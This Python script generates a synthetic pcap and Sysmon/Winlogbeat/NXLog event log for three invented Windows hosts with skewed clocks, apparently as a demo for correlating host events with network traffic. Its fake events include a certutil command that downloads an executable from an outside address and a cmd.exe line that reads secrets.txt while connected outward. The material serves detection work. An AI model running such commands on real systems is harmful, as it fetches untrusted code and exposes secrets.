#!/usr/bin/env python3
"""Makes the bundled demonstration: packets.pcap and events.ndjson, the same bytes on every run.

Three hosts of an invented estate, eight minutes of a morning, documentation addresses (RFC 5737) outside:
  WS01  Sysmon by Winlogbeat 8; its clock is 0.412 s ahead
  WS02  Sysmon by NXLog, which labels in local time without a zone (UTC-5); its clock is 3.1 s behind
  DC01  Security log by Winlogbeat: it reports the connections it accepts (5156)
On both workstations a cmd.exe starts and talks to an address outside; on WS02 one more only to DC01. One connection of
WS02 to 198.51.100.7 is reported by nobody.
"""
import datetime
import json
import random
import struct

random.seed(20261123)
T0 = 1795426200.0  # 2026-11-23T09:30:00Z
HOSTS = {
    "WS01": dict(ip="10.1.2.3", mac="02:00:00:00:02:03", skew=0.412, user="CORP\\bob"),
    "WS02": dict(ip="10.1.2.4", mac="02:00:00:00:02:04", skew=-3.1, user="CORP\\eve"),
    "DC01": dict(ip="10.1.2.2", mac="02:00:00:00:02:02", skew=0.0, user="NT AUTHORITY\\SYSTEM"),
}
ROUTER = "02:00:00:00:00:01"
packets, events = [], []
record_ids = {name: 1000 * (i + 7) for i, name in enumerate(HOSTS)}


# --- packets ----------------------------------------------------------------------------------------
def address(text):
    return bytes(int(part) for part in text.split("."))


def mac_of(ip):
    for host in HOSTS.values():
        if host["ip"] == ip:
            return bytes.fromhex(host["mac"].replace(":", ""))
    return bytes.fromhex(ROUTER.replace(":", ""))


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv4(source, destination, protocol, payload):
    header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.getrandbits(16), 0x4000, 64,
                         protocol, 0, address(source), address(destination))
    header = header[:10] + struct.pack(">H", checksum(header)) + header[12:]
    return mac_of(destination) + mac_of(source) + b"\x08\x00" + header + payload


def transport_sum(source, destination, protocol, segment):
    return checksum(address(source) + address(destination) + struct.pack(">BBH", 0, protocol, len(segment)) + segment)


def tcp(when, a, ap, b, bp, seq, ack, flags, payload=b""):
    segment = struct.pack(">HHIIBBHHH", ap, bp, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 0x50, flags, 64240, 0, 0) + payload
    segment = segment[:16] + struct.pack(">H", transport_sum(a, b, 6, segment)) + segment[18:]
    packets.append((when, ipv4(a, b, 6, segment)))


def udp(when, a, ap, b, bp, payload):
    segment = struct.pack(">HHHH", ap, bp, 8 + len(payload), 0) + payload
    segment = segment[:6] + struct.pack(">H", transport_sum(a, b, 17, segment)) + segment[8:]
    packets.append((when, ipv4(a, b, 17, segment)))


def conversation(when, a, ap, b, bp, exchanges, rtt=0.012, close=True):
    """A TCP connection: handshake, request and response sizes, FIN both ways. Returns when it ended."""
    x, y = random.getrandbits(32), random.getrandbits(32)
    tcp(when, a, ap, b, bp, x, 0, 0x02)
    tcp(when + rtt, b, bp, a, ap, y, x + 1, 0x12)
    tcp(when + rtt + 0.0002, a, ap, b, bp, x + 1, y + 1, 0x10)
    x, y, when = x + 1, y + 1, when + rtt + 0.001
    for request, response in exchanges:
        tcp(when, a, ap, b, bp, x, y, 0x18, random.randbytes(request))
        x += request
        while response > 0:
            size = min(response, 1200)
            when += rtt
            tcp(when, b, bp, a, ap, y, x, 0x18, random.randbytes(size))
            y, response = y + size, response - size
        tcp(when + 0.001, a, ap, b, bp, x, y, 0x10)
        when += 0.4 + random.random()
    if close:
        tcp(when, a, ap, b, bp, x, y, 0x11)
        tcp(when + rtt, b, bp, a, ap, y, x + 1, 0x11)
        tcp(when + rtt + 0.0002, a, ap, b, bp, x + 1, y + 1, 0x10)
    return when + rtt


def dns(when, client, port, name, answer):
    question = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
    ident = random.getrandbits(16)
    udp(when, client, port, HOSTS["DC01"]["ip"], 53, struct.pack(">HHHHHH", ident, 0x0100, 1, 0, 0, 0) + question)
    reply = struct.pack(">HHHHHH", ident, 0x8180, 1, 1, 0, 0) + question
    reply += struct.pack(">HHHIH", 0xC00C, 1, 1, 300, 4) + address(answer)
    udp(when + 0.004, HOSTS["DC01"]["ip"], 53, client, port, reply)


# --- host events ------------------------------------------------------------------------------------
def stamp(when, digits, t="T", z="Z"):
    whole = datetime.datetime.fromtimestamp(int(when), datetime.timezone.utc)
    return whole.strftime("%Y-%m-%d" + t + "%H:%M:%S") + (("%.*f" % (digits, when % 1))[1:] if digits else "") + z


def guid(host, pid, start):
    number = {"WS01": 0x11AA, "WS02": 0x22BB, "DC01": 0x33CC}[host]
    start = int(start)
    return "{%08x-%04x-%04x-%04x-%012x}" % (0x5EED0000 + number, start & 0xFFFF, start >> 16, pid & 0xFFFF, 0x900)


def winlogbeat(host, when, code, channel, provider, data, delay):
    record_ids[host] += 1
    label = when + HOSTS[host]["skew"]
    return when + delay, {
        "@timestamp": stamp(label, 3), "event": {"code": str(code), "kind": "event", "provider": provider},
        "host": {"name": host + ".corp.example"}, "agent": {"type": "winlogbeat", "version": "8.15.0"},
        "winlog": {"channel": channel, "computer_name": host + ".corp.example", "event_id": str(code),
                   "provider_name": provider, "record_id": record_ids[host], "event_data": data}}


def nxlog(host, when, code, data, delay):
    record_ids[host] += 1
    label = when + HOSTS[host]["skew"]
    return when + delay, {
        "EventTime": stamp(label - 5 * 3600, 0, " ", ""), "Hostname": host + ".corp.example", "EventID": code,
        "SourceName": "Microsoft-Windows-Sysmon", "Channel": "Microsoft-Windows-Sysmon/Operational",
        "RecordNumber": record_ids[host], "EventReceivedTime": stamp(when + delay - 5 * 3600, 0, " ", ""),
        "SourceModuleType": "im_msvistalog", **data}


def sysmon(host, when, code, data, delay=None):
    """Written 0.02 s after the fact, network events 1-2 s; UtcTime is the host's idea of when."""
    late = 1.0 + random.random() if code in (3, 22) else 0.02
    delay = random.uniform(2, 40) if delay is None else delay
    data = {"RuleName": "-", "UtcTime": stamp(when + HOSTS[host]["skew"], 3, " ", ""), **data}
    if host == "WS02":
        events.append(nxlog(host, when + late, code, data, delay))
    else:
        events.append(winlogbeat(host, when + late, code, "Microsoft-Windows-Sysmon/Operational",
                                 "Microsoft-Windows-Sysmon", data, delay))


def start(host, when, pid, image, command, parent, delay=None):
    process = dict(host=host, pid=pid, image=image, guid=guid(host, pid, when + HOSTS[host]["skew"]), user=HOSTS[host]["user"])
    sysmon(host, when, 1, {
        "ProcessGuid": process["guid"], "ProcessId": str(pid), "Image": image, "CommandLine": command,
        "CurrentDirectory": "C:\\Users\\Public\\", "User": process["user"], "IntegrityLevel": "Medium",
        "OriginalFileName": image.rsplit("\\", 1)[1], "Hashes": "SHA256=%064X" % random.getrandbits(256),
        "ParentProcessGuid": parent["guid"], "ParentProcessId": str(parent["pid"]), "ParentImage": parent["image"],
        "ParentCommandLine": parent["image"]}, delay)
    return process


def end(process, when):
    sysmon(process["host"], when, 5, {"ProcessGuid": process["guid"], "ProcessId": str(process["pid"]), "Image": process["image"]})


def connection(process, when, port, destination, destination_port, protocol="tcp", delay=None):
    sysmon(process["host"], when, 3, {
        "ProcessGuid": process["guid"], "ProcessId": str(process["pid"]), "Image": process["image"], "User": process["user"],
        "Protocol": protocol, "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": HOSTS[process["host"]]["ip"],
        "SourceHostname": process["host"] + ".corp.example", "SourcePort": str(port), "SourcePortName": "-",
        "DestinationIsIpv6": "false", "DestinationIp": destination, "DestinationHostname": "-",
        "DestinationPort": str(destination_port), "DestinationPortName": "-"}, delay)


def query(process, when, name, answer):
    sysmon(process["host"], when, 22, {
        "ProcessGuid": process["guid"], "ProcessId": str(process["pid"]), "QueryName": name, "QueryStatus": "0",
        "QueryResults": "::ffff:%s;" % answer, "Image": process["image"]})


def accepted(when, pid, image, source, source_port, port):
    host = "DC01"
    events.append(winlogbeat(host, when + 0.002, 5156, "Security", "Microsoft-Windows-Security-Auditing", {
        "ProcessID": str(pid), "Application": image, "Direction": "%%14592", "SourceAddress": source,
        "SourcePort": str(source_port), "DestAddress": HOSTS[host]["ip"], "DestPort": str(port), "Protocol": "6",
        "FilterRTID": "67010", "LayerName": "%%14610", "LayerRTID": "44"}, random.uniform(2, 8)))


# --- the story --------------------------------------------------------------------------------------
def known(host, pid, image, ago):
    return dict(host=host, pid=pid, image=image, guid=guid(host, pid, T0 - ago), user=HOSTS[host]["user"])


explorer1 = known("WS01", 4120, "C:\\Windows\\explorer.exe", 7200)
explorer2 = known("WS02", 3984, "C:\\Windows\\explorer.exe", 9000)
services2 = known("WS02", 712, "C:\\Windows\\System32\\services.exe", 90000)
LSASS = "\\device\\harddiskvolume3\\windows\\system32\\lsass.exe"
SITES = [("www.example.com", "198.51.100.20"), ("cdn.example.net", "198.51.100.33"), ("mail.example.org", "198.51.100.25"),
         ("updates.example.com", "198.51.100.44"), ("docs.example.net", "192.0.2.60")]

chrome = start("WS01", T0 + 3, 5532, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "chrome.exe", explorer1)
edge = start("WS02", T0 + 5, 6120, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", explorer2)
for i in range(16):
    for process, ports in ((chrome, 49800), (edge, 50800)):
        when = T0 + 12 + 26 * i + random.uniform(0, 12)
        name, ip = random.choice(SITES)
        client = HOSTS[process["host"]]["ip"]
        dns(when, client, 60000 + i + ports % 1000, name, ip)
        query(process, when + 0.005, name, ip)
        conversation(when + 0.03, client, ports + i, ip, 443, [(420, random.randint(300, 2400)) for _ in range(3)])
        connection(process, when + 0.03, ports + i, ip, 443)
for i in range(6):  # logons: both ends report
    host = ("WS01", "WS02")[i % 2]
    when = T0 + 20 + 70 * i
    conversation(when, HOSTS[host]["ip"], 51400 + i, HOSTS["DC01"]["ip"], 88, [(310, 1400)], rtt=0.001)
    accepted(when, 644, LSASS, HOSTS[host]["ip"], 51400 + i, 88)

cmd1 = start("WS01", T0 + 187.2, 7084, "C:\\Windows\\System32\\cmd.exe",
             "cmd.exe /c certutil -urlcache -f https://203.0.113.10/tool.txt %TEMP%\\t.exe", explorer1, delay=31)
conversation(T0 + 188.0, HOSTS["WS01"]["ip"], 49712, "203.0.113.10", 443, [(517, 3100), (130, 21000), (90, 300)], rtt=0.03)
connection(cmd1, T0 + 188.0, 49712, "203.0.113.10", 443, delay=28)
end(cmd1, T0 + 201.5)

cmd2 = start("WS02", T0 + 240.0, 2240, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /k net use \\\\dc01\\tools", explorer2)
conversation(T0 + 243.0, HOSTS["WS02"]["ip"], 51711, HOSTS["DC01"]["ip"], 445, [(180, 400), (250, 2600)], rtt=0.001)
connection(cmd2, T0 + 243.0, 51711, HOSTS["DC01"]["ip"], 445)
accepted(T0 + 243.0, 4, "System", HOSTS["WS02"]["ip"], 51711, 445)

# The process start is forwarded four minutes late, long after the connection was reported.
cmd3 = start("WS02", T0 + 300.4, 8116, "C:\\Windows\\System32\\cmd.exe",
             "\"C:\\Windows\\system32\\cmd.exe\" /c whoami ^& type secrets.txt", services2, delay=252)
conversation(T0 + 301.1, HOSTS["WS02"]["ip"], 51733, "203.0.113.77", 8080, [(60, 900), (700, 120)], rtt=0.045, close=False)
connection(cmd3, T0 + 301.1, 51733, "203.0.113.77", 8080, delay=4)

conversation(T0 + 330.0, HOSTS["WS02"]["ip"], 51760, "198.51.100.7", 8443, [(900, 200)] * 6)  # nobody reports it

packets.sort(key=lambda packet: packet[0])
with open("packets.pcap", "wb") as out:
    out.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
    for when, data in packets:
        micros = round(when * 1e6)
        out.write(struct.pack("<IIII", micros // 1000000, micros % 1000000, len(data), len(data)) + data)
events.sort(key=lambda event: event[0])  # in the order in which they reached the collector
with open("events.ndjson", "w") as out:
    for _, event in events:
        out.write(json.dumps(event, separators=(",", ":")) + "\n")
